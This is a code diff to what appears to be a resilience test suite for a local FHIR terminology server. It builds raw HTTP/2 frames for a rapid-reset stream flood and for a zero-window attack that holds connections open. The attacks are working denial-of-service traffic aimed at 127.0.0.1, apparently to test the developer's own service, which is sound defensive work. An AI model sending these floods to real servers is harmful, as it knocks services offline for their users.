@@ -161,18 +161,35 @@ def _frame(kind: int, flags: int, stream: int, content: bytes) -> bytes:
     return len(content).to_bytes(3) + bytes((kind, flags)) + stream.to_bytes(4) + content
 
 
+def _stream(number: int) -> bytes:
+    """A request for an expansion as a stream of HTTP/2: its HPACK has path and authority as literals."""
+    path = (EXPAND + "?url=http://hl7.org/fhir/ValueSet/ucum-units").encode()
+    return _frame(1, 5, number, b"\x82\x86\x04" + bytes((len(path),)) + path + b"\x01\x09127.0.0.1")
+
+
+def _http_2(settings: bytes = b"") -> bytes:
+    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, settings)
+
+
 @attack
 def streams_that_are_reset(attacker: Attacker) -> None:
     """Begin 20,000 streams of HTTP/2 over each of four connections, and reset each at once."""
-    path = (EXPAND + "?url=http://hl7.org/fhir/ValueSet/ucum-common").encode()
-    # HPACK: GET, http, and the path and authority as literals.
-    headers = b"\x82\x86\x04" + bytes((len(path),)) + path + b"\x01\x09127.0.0.1"
-    streams = (
-        _frame(1, 5, stream, headers) + _frame(3, 0, stream, (8).to_bytes(4))
-        for stream in range(1, 40_001, 2)
-    )
-    flood = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b"") + b"".join(streams)
-    attacker.repeat(4, lambda: attacker.send(flood))
+    cancel = (8).to_bytes(4)
+    flood = b"".join(_stream(n) + _frame(3, 0, n, cancel) for n in range(1, 40_001, 2))
+    attacker.repeat(4, lambda: attacker.send(_http_2(), flood))
+
+
+@holding
+def streams_without_a_window(attacker: Attacker) -> None:
+    """Begin 200 streams of HTTP/2 over each of 16 connections, and take no byte of the answers."""
+    no_window = (4).to_bytes(2) + bytes(4)
+    streams = b"".join(map(_stream, range(1, 400, 2)))
+
+    def play() -> None:
+        attacker.connect().sendall(_http_2(no_window) + streams)
+        attacker.pause(5)
+
+    attacker.repeat(16, play)
 
 
 # -- long heads ---------------------------------------------------------------------------------
